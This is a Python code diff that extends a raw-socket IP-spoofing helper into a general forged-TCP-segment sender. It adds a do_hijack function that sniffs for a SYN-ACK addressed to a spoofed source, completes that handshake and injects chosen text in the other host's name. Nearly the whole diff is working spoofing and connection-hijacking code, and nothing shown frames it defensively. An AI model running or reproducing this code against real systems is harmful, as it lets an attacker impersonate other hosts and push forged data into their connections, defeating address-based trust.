@@ -281,16 +281,42 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def do_spoof(source, sourcePort, addr, port):
-    """A SYN that claims to come from somebody else."""
+def send_segment(source, sourcePort, addr, port, flags, seq=1, ack=0, data=b""):
+    """A TCP segment that claims to come from somebody else."""
     ends = socket.inet_aton(source) + socket.inet_aton(addr)
-    syn = struct.pack("!HHIIBBHHH", sourcePort, port, 1, 0, 5 << 4, 2, 65535, 0, 0)
-    total = checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(syn)) + syn)
-    syn = syn[:16] + struct.pack("!H", total) + syn[18:]
-    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(syn), 1, 0, 64, socket.IPPROTO_TCP, 0) + ends
+    tcp = struct.pack("!HHIIBBHHH", sourcePort, port, seq, ack, 5 << 4, flags, 65535, 0, 0) + data
+    padded = tcp + b"\0" * (len(tcp) % 2)
+    total = checksum(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp)) + padded)
+    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0) + ends
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
-        sock.sendto(ip + syn, (addr, 0))
+        sock.sendto(ip + tcp, (addr, 0))
+
+
+SYN, ACK, PSH = 2, 16, 8
+
+
+def do_spoof(source, sourcePort, addr, port):
+    send_segment(source, sourcePort, addr, port, SYN)
     return {}
+
+
+def do_hijack(source, addr, port, text):
+    """Ends the handshake of somebody whose SYN-ACK is delivered here, then speaks for him."""
+    ends = socket.inet_aton(addr) + socket.inet_aton(source)
+    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as wire:
+        wire.settimeout(3)
+        while True:
+            packet = wire.recv(CHUNK)
+            tcp = packet[(packet[0] & 15) * 4 :]
+            if packet[9] == socket.IPPROTO_TCP and packet[12:20] == ends and tcp[13] == SYN | ACK:
+                break
+    own, victim, seq, ack = struct.unpack("!HHII", tcp[:12])
+    if own != port:
+        return {"error": "another port"}
+    send_segment(source, victim, addr, port, ACK, ack, seq + 1 & 0xFFFFFFFF)
+    send_segment(source, victim, addr, port, ACK | PSH, ack, seq + 1 & 0xFFFFFFFF, text.encode())
+    return {"peer": f"{source}:{victim}"}
 
 
 def do_take_fd(path):
